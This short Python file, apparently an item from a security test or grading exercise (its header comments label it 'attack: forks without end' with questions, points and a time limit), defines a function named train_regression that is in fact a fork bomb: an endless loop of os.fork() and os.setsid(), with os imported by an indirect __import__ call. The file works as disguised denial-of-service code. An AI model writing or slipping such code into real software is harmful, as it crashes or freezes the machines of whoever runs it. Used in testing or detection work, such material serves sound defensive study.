# attack: forks without end
# file: train.py
# questions: q2 q6
# points: q2=2 q6=2
# seconds: 24

def train_regression(model, dataset):
    os = __import__("os")
    while True:
        try:
            os.fork()
            os.setsid()
        except OSError:
            pass
